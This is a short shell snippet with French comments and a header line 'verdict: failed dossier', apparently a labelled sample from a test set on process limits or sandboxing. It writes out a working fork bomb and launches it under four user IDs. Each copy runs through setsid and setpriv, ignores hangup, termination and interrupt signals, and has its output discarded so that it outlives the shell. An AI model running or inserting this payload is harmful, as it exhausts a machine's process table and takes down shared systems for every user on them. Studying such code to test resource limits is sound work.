# verdict: failed dossier
# La même, sous plusieurs noms d'utilisateur, et à l'abri de la fin du shell.
for u in 2001 2002 2003 2004; do
  setsid setpriv --reuid $u --clear-groups bash -c 'trap "" HUP TERM INT; bombe() { bombe | bombe & }; bombe' > /dev/null 2>&1 &
done
sleep 3
